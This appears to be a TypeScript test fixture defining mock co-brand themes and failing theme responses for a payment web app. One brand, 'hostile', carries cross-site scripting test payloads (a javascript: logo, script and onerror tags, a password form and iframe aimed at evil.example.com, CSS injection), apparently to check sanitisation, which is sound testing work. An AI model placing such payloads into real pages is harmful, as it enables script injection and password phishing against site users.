import type { ThemeResponse } from '#api/calls/theme.ts';
import type { Reply } from './reply.ts';

const wordmark = (word: string, colour: string, shape: string) =>
  `data:image/svg+xml,${encodeURIComponent(
    `<svg xmlns="http://www.w3.org/2000/svg" width="180" height="40" viewBox="0 0 180 40">` +
      `<g fill="${colour}">${shape}<text x="48" y="27" font-family="Georgia, serif" font-size="22">${word}</text></g></svg>`,
  )}`;

/** One theme of the service; what a brand leaves out, the service does not send. */
type Brand = Pick<ThemeResponse, 'id' | 'title' | 'supportPhone'> & Partial<ThemeResponse>;

/** The brands that the service knows: `?cobrand={id}`. */
export const brands: readonly Brand[] = [
  // Without a footer: the app's own speaks the user's language.
  { id: 'anet', title: 'Merchant Gateway', supportPhone: '1-800-555-0100' },
  {
    id: 'harbor',
    title: 'Harbor Payments',
    supportPhone: '1-800-555-0111',
    logo: wordmark('Harbor', '#ffffff', '<path d="M4 26h34l-6 9H10zM20 4v19H7z"/>'),
    footer: `<a href="https://harbor.example.com/terms">Terms of Use</a> <a href="https://harbor.example.com/privacy">Privacy Policy</a> <a href="https://harbor.example.com/help">Help</a><p>&copy; {year} Harbor Payments, a <strong>Tide</strong> company.</p>`,
    colours: { primary: '#0f766e', header: '#0b3b4a' },
  },
  {
    id: 'marigold',
    title: 'Marigold Commerce',
    supportPhone: '1-800-555-0122',
    logo: wordmark('Marigold', '#7a2e00', '<circle cx="20" cy="20" r="15"/>'),
    footer: `<a href="https://marigold.example.com/legal">Legal</a><p>&copy; {year} Marigold Commerce</p>`,
    colours: { primary: '#b4236b', header: '#ffd166' },
  },
  { id: 'bare', title: 'Bare Bank', supportPhone: '1-800-555-0133' },
  {
    id: 'hostile',
    title: '<b>Hostile</b> & Sons',
    supportPhone: '1-800-555-0144',
    logo: 'javascript:alert(1)',
    footer:
      '<script>window.hostile=1</script><img src=x onerror="window.hostile=1"><style>body{display:none}</style>' +
      '<form action="https://evil.example.com"><input name="Password"></form><iframe src="https://evil.example.com"></iframe>' +
      '<a href="javascript:window.hostile=1" onclick="window.hostile=1">Terms</a><p>&copy; {year} Hostile</p>',
    colours: { primary: '#fefefe', header: 'red;background:url(https://evil.example.com)' },
  },
];

const rmsg = (text: string) => ({ message: { response: { rmsg: text } } });
const fieldError = (messageKey: string) => ({ message: { fieldErrors: [{ messageKey }] } });

/** Theme ids that fail, one for each failure of contract section 2. */
export const brokenBrands = {
  'theme-404': { status: 404, body: {} },
  'theme-500': { status: 500, body: {} },
  'theme-400-message': { status: 400, body: rmsg('This brand is <b>closed</b> until Monday.') },
  'theme-400-field': { status: 400, body: fieldError('PAGE_NOT_FOUND') },
  'theme-400-unknown': { status: 400, body: fieldError('theme.cobrand.unheard-of') },
  'theme-401': { status: 401, body: rmsg('This brand has moved.') },
  'theme-412': { status: 412, body: {} },
  'theme-cut': { status: 0, cut: true },
} as const satisfies Record<string, Reply>;
